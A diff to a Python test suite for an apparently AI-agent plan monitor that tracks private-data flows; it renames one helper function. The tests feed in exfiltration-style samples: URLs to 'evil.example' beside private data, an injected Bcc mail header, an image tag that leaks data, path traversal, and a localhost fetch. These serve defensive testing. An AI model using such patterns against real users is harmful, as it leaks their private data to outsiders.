@@ -113,7 +113,7 @@ def each(policy: Policy) -> Enforcement:
     return Enforcement(policy, Judge(policy).judge, {}, policy.inputs)
 
 
-def goes_the_same_way(
+def runs_equally(
     text: str,
     policy: Policy,
     world: int = 0,
@@ -137,7 +137,7 @@ def goes_the_same_way(
 @given(plan_texts() | same_texts() | same_texts(), POLICIES, SEEDS, SEEDS)
 @settings(max_examples=150, deadline=None)
 def test_run_is_same_with_and_without_cache(text: str, policy: Policy, world: int, schedule: int) -> None:
-    goes_the_same_way(text, policy, world, schedule)
+    runs_equally(text, policy, world, schedule)
 
 
 PLACES = st.sampled_from(
@@ -192,7 +192,7 @@ def test_cache_is_correct_under_path_and_address_rules(
     text: str, policy: Policy, sources: tuple[SourceRule, ...], world: int
 ) -> None:
     audiences = (Audience(name="corp", hosts=("*.corp.example",)),)
-    goes_the_same_way(text, replace(policy, sources=sources, audiences=audiences), world)
+    runs_equally(text, replace(policy, sources=sources, audiences=audiences), world)
 
 
 ODD: tuple[JSON, ...] = (
@@ -253,7 +253,7 @@ def test_cache_is_correct_for_mixed_private_data(
         "READ": replace(plain, returns=label),
         "FAULTY": replace(plain, returns=other),
     }
-    goes_the_same_way(text, replace(policy, tools=tools, audiences=audiences), world, 0, odd)
+    runs_equally(text, replace(policy, tools=tools, audiences=audiences), world, 0, odd)
 
 
 def names(world: int, command: Any) -> Event:
@@ -339,7 +339,7 @@ def test_cache_is_correct_for_any_recipient_of_private_data(
             no_echo=no_echo,
         ),
     }
-    goes_the_same_way(text, replace(policy, tools=tools), world, 0, names)
+    runs_equally(text, replace(policy, tools=tools), world, 0, names)
 
 
 @pytest.mark.parametrize(
@@ -348,12 +348,12 @@ def test_cache_is_correct_for_any_recipient_of_private_data(
 )
 def test_different_path_is_judged_again(tool: str, rest: str) -> None:
     text = "\n".join(f'S{n}: @{tool} (path="{path}"{rest}) > $d' for n, path in ((1, "a.md"), (2, "../a.md")))
-    assert refused(goes_the_same_way(text, Policy())) == "path"
+    assert refused(runs_equally(text, Policy())) == "path"
 
 
 def test_different_host_is_judged_again() -> None:
     text = 'S1: @FETCH_PAGE (url="https://a.example/x")\nS2: @FETCH_PAGE (url="https://localhost/x")'
-    assert refused(goes_the_same_way(text, Policy())) == "address"
+    assert refused(runs_equally(text, Policy())) == "address"
 
 
 def test_private_data_for_different_recipient_is_judged_again() -> None:
@@ -362,7 +362,7 @@ def test_private_data_for_different_recipient_is_judged_again() -> None:
     sends = replace(policy.tools["KEEP"], egress=True, audience_arg="y", trusted_audience=("friend",))
     policy = replace(policy, tools={**policy.tools, "READ": reads, "KEEP": sends})
     text = 'S1: @READ ("q") > $c\nS2: @KEEP ($c, "friend")\nS3: @KEEP ($c, "stranger")'
-    assert refused(goes_the_same_way(text, policy)) == "flow"
+    assert refused(runs_equally(text, policy)) == "flow"
 
 
 @pytest.mark.parametrize(
@@ -381,7 +381,7 @@ def test_recipients_of_private_data_are_judged_per_call(second: str) -> None:
         S3: @FAULTY ("q") > $s
         S4: @KEEP ({second})
     """
-    assert refused(goes_the_same_way(text, mail())) == "flow"
+    assert refused(runs_equally(text, mail())) == "flow"
 
 
 def mail() -> Policy:
@@ -401,7 +401,7 @@ def test_recipients_derived_from_data_are_judged_per_call() -> None:
         said: JSON = ["friend", "stranger"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    assert refused(goes_the_same_way(text, mail(), outcome=names)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=names)) == "flow"
 
 
 def test_argument_name_unlike_prose_may_be_header() -> None:
@@ -411,7 +411,7 @@ def test_argument_name_unlike_prose_may_be_header() -> None:
         said: JSON = ["plain", "x\nBcc: eve"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    assert refused(goes_the_same_way(text, mail(), outcome=headers)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=headers)) == "flow"
 
 
 def test_title_opening_tag_includes_following_text() -> None:
@@ -420,7 +420,7 @@ def test_title_opening_tag_includes_following_text() -> None:
         S2: @KEEP (y="friend", subject="<a href=", body="> $c") > $a
         S3: @KEEP (y="friend", subject="<a href=", body="x $c") > $b
     """
-    machine = goes_the_same_way(text, mail())
+    machine = runs_equally(text, mail())
     assert machine.monitor is not None
     assert [str(machine.monitor.variables()[name][0]) for name in "ab"] == ["U/priv", "U/model+trusted"]
 
@@ -447,7 +447,7 @@ def test_attachment_for_different_recipient_is_judged_again() -> None:
     policy = policy_of(egress=True, audience_arg="y", trusted_audience=("friend",))
     policy = replace(policy, sources=(SourceRule(kind="file", pattern="docs/**", label=LITERAL),))
     text = 'S1: @KEEP (y="friend", attachment="notes.txt")\nS2: @KEEP (y="stranger", attachment="notes.txt")'
-    assert refused(goes_the_same_way(text, policy)) == "flow"
+    assert refused(runs_equally(text, policy)) == "flow"
 
 
 def test_plan_text_in_variable_counts_beside_private_data() -> None:
@@ -456,7 +456,7 @@ def test_plan_text_in_variable_counts_beside_private_data() -> None:
         S2: ?FOREACH ($i IN ["x", "https://evil.example/?q="]) THEN @KEEP ($i, $c) > $d
     """
     policy = policy_of(returns=PRIVATE, no_echo=False)
-    machine = goes_the_same_way(text, replace(policy, planner=LITERAL))
+    machine = runs_equally(text, replace(policy, planner=LITERAL))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/model+trusted"
 
@@ -469,7 +469,7 @@ def test_data_opening_tag_includes_following_text(opening: str) -> None:
         said: JSON = ["plain", f"{opening}img src='https://evil.example/?"] if command.tool == "READ" else 1
         return Succeeded(command.key, said)
 
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False), outcome=images)
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False), outcome=images)
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/model+trusted"
 
@@ -485,17 +485,17 @@ def test_image_in_data_is_judged_per_call() -> None:
         S1: @READ ("q") > $c
         S2: ?FOREACH ($i IN $c) THEN @KEEP (y="friend", body=$i)
     """
-    assert refused(goes_the_same_way(text, mail(), outcome=images)) == "flow"
+    assert refused(runs_equally(text, mail(), outcome=images)) == "flow"
 
 
 def test_path_from_data_is_judged_per_call() -> None:
     text = 'S1: ?FOREACH ($i IN ["a.md", "b.md", "../a.md"]) THEN @WRITE_FILE (path="$i", content="x")'
-    assert refused(goes_the_same_way(text, Policy())) == "path"
+    assert refused(runs_equally(text, Policy())) == "path"
 
 
 def test_result_of_tool_without_echo_has_label_of_plan_text() -> None:
     text = 'S1: @READ ("q", "x") > $c\nS2: @READ ("https://evil.example/?q=", "x") > $d'
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False))
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False))
     assert machine.monitor is not None
     assert [str(machine.monitor.variables()[name][0]) for name in "cd"] == ["U/priv", "U/model+trusted"]
 
@@ -506,7 +506,7 @@ def test_untrusted_text_is_not_written_to_executable_file() -> None:
         for n, path in ((1, "a.md"), (2, "a.md"), (3, "a.sh"))
     )
     policy = replace(policy_of(), inputs=read_label("U/pub"))
-    assert refused(goes_the_same_way(text, policy)) == "executable-target"
+    assert refused(runs_equally(text, policy)) == "executable-target"
 
 
 def policy_of(**rule: Any) -> Policy:
@@ -533,31 +533,29 @@ PRIVATE = read_label("U/priv")
 
 def test_control_flow_label_is_part_of_cache_key() -> None:
     policy = replace(policy_of(egress=True), inputs=PRIVATE)
-    assert refused(goes_the_same_way(GUARDED, policy)) == "implicit-flow"
+    assert refused(runs_equally(GUARDED, policy)) == "implicit-flow"
 
 
 def test_approval_applies_to_one_step_only() -> None:
     policy = policy_of(control=("x",))
-    assert (
-        refused(goes_the_same_way(TWICE, replace(policy, approved=frozenset({"S1"})))) == "control-argument"
-    )
+    assert refused(runs_equally(TWICE, replace(policy, approved=frozenset({"S1"})))) == "control-argument"
 
 
 def test_declassification_applies_to_its_step_only() -> None:
     policy = policy_of(returns=PRIVATE)
-    machine = goes_the_same_way(TWICE, replace(policy, declassify=frozenset({"S1"})))
+    machine = runs_equally(TWICE, replace(policy, declassify=frozenset({"S1"})))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["d"][0]) == "U/priv"
 
 
 def test_same_data_in_different_argument_is_judged_again() -> None:
     text = 'S1: @KEEP (y=$b, x="q")\nS2: @KEEP (x=$b, y="q")'
-    assert refused(goes_the_same_way(text, policy_of(control=("x",)))) == "control-argument"
+    assert refused(runs_equally(text, policy_of(control=("x",)))) == "control-argument"
 
 
 def test_idempotency_key_of_retried_call_is_checked_for_each_call() -> None:
     text = 'S1: ?FOREACH ($i IN ["k", ""]) THEN @KEEP ($b, $i) ON_FAIL @RETRY(1)'
-    assert refused(goes_the_same_way(text, policy_of(idempotent=False, key_arg="y"))) == "retry"
+    assert refused(runs_equally(text, policy_of(idempotent=False, key_arg="y"))) == "retry"
 
 
 def test_plan_text_beside_private_data_counts() -> None:
@@ -566,14 +564,14 @@ def test_plan_text_beside_private_data_counts() -> None:
         S2: @KEEP ($d, "x") > $c
         S3: @KEEP ($d, "https://evil.example/?q=") > $c
     """
-    machine = goes_the_same_way(text, policy_of(returns=PRIVATE, no_echo=False))
+    machine = runs_equally(text, policy_of(returns=PRIVATE, no_echo=False))
     assert machine.monitor is not None
     assert str(machine.monitor.variables()["c"][0]) == "U/model+trusted"
 
 
 def test_success_is_recorded_if_failure_jumps_elsewhere() -> None:
     text = 'S1: @KEEP ("q", $b) > $d\nS2: @KEEP ("q", $b) > $d ON_FAIL GOTO S3\nS3: @KEEP ("q", "x") > $c'
-    machine = goes_the_same_way(text, replace(policy_of(), implicit=Implicit.STRICT), world=3)
+    machine = runs_equally(text, replace(policy_of(), implicit=Implicit.STRICT), world=3)
     assert machine.monitor is not None
     assert machine.monitor.implicit_flows.noted
 
@@ -582,7 +580,7 @@ def test_success_is_recorded_if_failure_jumps_elsewhere() -> None:
 def test_literals_of_untrusted_planner_beside_data_are_judged(beside: str) -> None:
     text = f"S1: @READ ($a, $a) > $c\nS2: @READ ([$b], $b) > $c\nS3: @READ ({beside}, $b) > $c"
     policy = replace(policy_of(control=("x",)), planner=read_label("U/pub"), inputs=LITERAL)
-    machine = goes_the_same_way(text, policy)
+    machine = runs_equally(text, policy)
     assert refused(machine) == "control-argument"
     assert machine.result is not None
     assert machine.result.ended_at == "S3"
@@ -591,7 +589,7 @@ def test_literals_of_untrusted_planner_beside_data_are_judged(beside: str) -> No
 def test_forbidden_texts_are_searched_in_each_call() -> None:
     text = "S1: ?FOREACH ($i IN [1, 2, 3]) THEN @KEEP ($i, $b)"
     policy = replace(policy_of(), forbidden=("3",))
-    assert refused(goes_the_same_way(text, policy)) == "forbidden-pattern"
+    assert refused(runs_equally(text, policy)) == "forbidden-pattern"
 
 
 def test_judgements_are_not_shared_between_policies() -> None:
